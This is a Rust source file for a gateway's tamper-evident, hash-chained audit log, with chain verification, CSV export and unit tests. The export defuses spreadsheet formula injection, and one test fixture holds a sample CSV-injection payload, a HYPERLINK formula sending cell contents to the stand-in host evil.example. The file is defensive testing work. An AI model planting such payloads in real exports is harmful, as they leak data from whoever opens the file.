//! The audit log: who logged in (or failed to), viewed a home, acknowledged or cleared an
//! alert, and changed an account. Append-only, with tamper evidence.
//!
//! Each entry's `hash` is SHA-256 over the previous entry's hash and this entry's fields
//! (as a JSON array, so no field can bleed into the next). Changing, removing or inserting
//! an entry breaks the chain from that entry on, which [`verify`] reports. SQLite triggers
//! refuse `UPDATE` and `DELETE` on the table, so the gateway itself cannot rewrite it; an
//! attacker with the file can, but not without [`verify`] noticing unless they recompute
//! every later hash. Exporting the log regularly (and keeping the last hash elsewhere)
//! closes that gap; `mamori-gateway audit export` prints it.
//!
//! The rows are the store's ([`AuditRows`]): each backend makes an append atomic against
//! every other appender (SQLite takes its write lock first), so the dashboard and the CLI can
//! both append without forking the chain.

use serde::Serialize;
use sha2::{Digest, Sha256};

use crate::domain::engine::Time;
use crate::edge::store::{AuditRows, StoreError};

/// The hash before the first entry.
pub const GENESIS: &str = "0000000000000000000000000000000000000000000000000000000000000000";

/// One entry.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Entry {
    /// Position, from 1.
    pub seq: i64,
    /// When (UTC, RFC 3339).
    pub at: String,
    /// The account (`cli:<os user>` from the command line, `-` before login).
    pub actor: String,
    /// The client's address (`-` from the command line).
    pub ip: String,
    /// What: `login`, `login_failed`, `logout`, `view_home`, `ack`, `clear`, `user_add`, ...
    pub action: String,
    /// On what: a home, an alert, an account.
    pub target: String,
    /// More (a note, a reason).
    pub detail: String,
    /// The previous entry's hash.
    pub prev: String,
    /// This entry's hash.
    pub hash: String,
}

/// `fields`: at, actor, ip, action, target, detail.
fn digest(prev: &str, seq: i64, fields: [&str; 6]) -> String {
    let [at, actor, ip, action, target, detail] = fields;
    let fields = serde_json::json!([prev, seq, at, actor, ip, action, target, detail]);
    hex::encode(Sha256::digest(fields.to_string().as_bytes()))
}

/// Append an entry; returns it.
pub fn append(
    rows: &mut dyn AuditRows,
    at: Time,
    actor: &str,
    ip: &str,
    action: &str,
    target: &str,
    detail: &str,
) -> Result<Entry, StoreError> {
    let at = at.format("%Y-%m-%dT%H:%M:%S%.6fZ").to_string();
    let detail: String = detail.chars().take(500).collect();
    rows.audit_append(&mut |last| {
        let (seq, prev) = last.map_or((1, GENESIS.to_string()), |(s, h)| (s + 1, h));
        let hash = digest(&prev, seq, [&at, actor, ip, action, target, &detail]);
        Entry {
            seq,
            at: at.clone(),
            actor: actor.into(),
            ip: ip.into(),
            action: action.into(),
            target: target.into(),
            detail: detail.clone(),
            prev,
            hash,
        }
    })
}

/// Entries, newest first (`before`: only entries with a smaller `seq`).
pub fn entries(rows: &dyn AuditRows, before: Option<i64>, limit: usize) -> Result<Vec<Entry>, StoreError> {
    rows.audit_before(before, limit)
}

/// Every entry, oldest first, a page at a time (the log can be long; memory stays bounded).
fn each(rows: &dyn AuditRows, mut f: impl FnMut(Entry) -> anyhow::Result<bool>) -> anyhow::Result<()> {
    const PAGE: usize = 1000;
    let mut after = 0;
    loop {
        let page = rows.audit_after(after, PAGE)?;
        let full = page.len() == PAGE;
        for e in page {
            after = e.seq;
            if !f(e)? {
                return Ok(());
            }
        }
        if !full {
            return Ok(());
        }
    }
}

/// What [`verify`] found.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub enum Verdict {
    /// The chain holds over this many entries; the last hash.
    Intact {
        /// Entries checked.
        entries: u64,
        /// The last entry's hash (keep it elsewhere to detect a rewritten tail).
        head: String,
    },
    /// The first entry that does not follow.
    Broken {
        /// Its `seq`.
        seq: i64,
        /// Why.
        reason: String,
    },
}

/// Walk the whole chain.
pub fn verify(rows: &dyn AuditRows) -> anyhow::Result<Verdict> {
    let (mut prev, mut expect_seq, mut n) = (GENESIS.to_string(), 1i64, 0u64);
    let mut broken = None;
    each(rows, |e| {
        let reason = if e.seq != expect_seq {
            Some(format!("entry {expect_seq} is missing"))
        } else if e.prev != prev {
            Some("it does not point at the previous entry's hash".to_string())
        } else if digest(&e.prev, e.seq, [&e.at, &e.actor, &e.ip, &e.action, &e.target, &e.detail]) != e.hash {
            Some("its contents do not match its hash".to_string())
        } else {
            None
        };
        if let Some(reason) = reason {
            broken = Some(Verdict::Broken { seq: e.seq, reason });
            return Ok(false);
        }
        prev = e.hash;
        expect_seq += 1;
        n += 1;
        Ok(true)
    })?;
    Ok(broken.unwrap_or(Verdict::Intact { entries: n, head: prev }))
}

/// The whole log as CSV (RFC 4180), oldest first.
///
/// Every text cell is quoted, and one that a spreadsheet would take for a formula (it starts
/// with `=`, `+`, `-`, `@`, a tab or a carriage return: a username typed at the login form,
/// say) is prefixed with `'`, so it is shown, never run. The hashes are computed over the
/// stored values, not the exported ones.
pub fn export_csv(rows: &dyn AuditRows, out: &mut impl std::io::Write) -> anyhow::Result<u64> {
    let q = csv_cell;
    writeln!(out, "seq,at,actor,ip,action,target,detail,prev,hash")?;
    let mut n = 0;
    each(rows, |e| {
        writeln!(
            out,
            "{},{},{},{},{},{},{},{},{}",
            e.seq,
            e.at,
            q(&e.actor),
            q(&e.ip),
            q(&e.action),
            q(&e.target),
            q(&e.detail),
            e.prev,
            e.hash
        )?;
        n += 1;
        Ok(true)
    })?;
    Ok(n)
}

/// A quoted CSV cell (RFC 4180) a spreadsheet shows and does not evaluate ([`csv_text`]).
pub fn csv_cell(s: &str) -> String {
    format!("\"{}\"", csv_text(s).replace('"', "\"\""))
}

/// A CSV line of quoted cells ([`csv_cell`]), ended by CRLF.
pub fn csv_row<'a>(cells: impl IntoIterator<Item = &'a str>) -> String {
    let mut line = cells.into_iter().map(csv_cell).collect::<Vec<_>>().join(",");
    line.push_str("\r\n");
    line
}

/// A text cell a spreadsheet shows and does not evaluate.
pub fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn db() -> (tempfile::TempDir, crate::edge::store::SqliteStore) {
        let dir = tempfile::tempdir().unwrap();
        let s = crate::edge::store::SqliteStore::open(dir.path()).unwrap();
        (dir, s)
    }

    fn t(s: i64) -> Time {
        chrono::DateTime::from_timestamp(1_790_000_000 + s, 0).unwrap()
    }

    #[test]
    fn the_chain_holds_and_notices_an_edit_a_removal_and_a_rewrite() {
        let (_d, mut s) = db();
        for i in 0..5 {
            append(&mut s, t(i), "sato", "192.0.2.1", "view_home", &format!("home-{i}"), "").unwrap();
        }
        let Verdict::Intact { entries: n, head } = verify(&s).unwrap() else { panic!("intact") };
        assert_eq!(n, 5);
        assert_eq!(head, entries(&s, None, 1).unwrap()[0].hash);

        // The gateway cannot change or remove an entry.
        let c = s.conn();
        assert!(c.execute("UPDATE audit SET actor = 'x' WHERE seq = 2", []).is_err());
        assert!(c.execute("DELETE FROM audit WHERE seq = 2", []).is_err());

        // Someone with the file can, after dropping the triggers; the chain notices.
        c.execute_batch("DROP TRIGGER audit_no_update; DROP TRIGGER audit_no_delete;").unwrap();
        c.execute("UPDATE audit SET target = 'home-9' WHERE seq = 3", []).unwrap();
        assert!(matches!(verify(&s).unwrap(), Verdict::Broken { seq: 3, .. }));
        c.execute("UPDATE audit SET target = 'home-2' WHERE seq = 3", []).unwrap();
        assert!(matches!(verify(&s).unwrap(), Verdict::Intact { .. }));
        c.execute("DELETE FROM audit WHERE seq = 4", []).unwrap();
        assert_eq!(verify(&s).unwrap(), Verdict::Broken { seq: 5, reason: "entry 4 is missing".into() });
    }

    #[test]
    fn a_long_log_is_walked_page_by_page_to_its_end() {
        let (_d, mut s) = db();
        for i in 0..2_345 {
            append(&mut s, t(i), "sato", "-", "view_home", "home-1", "").unwrap();
        }
        assert!(matches!(verify(&s).unwrap(), Verdict::Intact { entries: 2_345, .. }));
        let mut out = Vec::new();
        assert_eq!(export_csv(&s, &mut out).unwrap(), 2_345);
        // A break in a later page is found.
        s.conn().execute_batch("DROP TRIGGER audit_no_update;").unwrap();
        s.conn().execute("UPDATE audit SET actor = 'x' WHERE seq = 2001", []).unwrap();
        assert!(matches!(verify(&s).unwrap(), Verdict::Broken { seq: 2001, .. }));
    }

    #[test]
    fn the_export_is_csv_with_quotes_doubled() {
        let (_d, mut s) = db();
        append(&mut s, t(0), "sato", "-", "ack", "abc", "note with \"quotes\", and a comma").unwrap();
        let mut out = Vec::new();
        assert_eq!(export_csv(&s, &mut out).unwrap(), 1);
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("\"note with \"\"quotes\"\", and a comma\""), "{text}");
    }

    #[test]
    fn a_cell_a_spreadsheet_would_run_is_exported_as_text() {
        let (_d, mut s) = db();
        let evil = r#"=HYPERLINK("http://evil.example/?"&B2,"Open")"#;
        append(&mut s, t(0), evil, "-", "login_failed", evil, "").unwrap();
        for lead in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            append(&mut s, t(1), lead, "-", "login_failed", "x", "").unwrap();
        }
        let mut out = Vec::new();
        export_csv(&s, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains(r#""'=HYPERLINK(""http://evil.example/?""&B2,""Open"")""#), "{text}");
        for cell in text.lines().skip(1).flat_map(|l| l.split(',')).filter(|c| c.starts_with('"')) {
            let inner = cell.trim_matches('"');
            assert!(!inner.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell} in {text}");
        }
        assert!(matches!(verify(&s).unwrap(), Verdict::Intact { .. }), "the chain is over the stored values");
    }
}
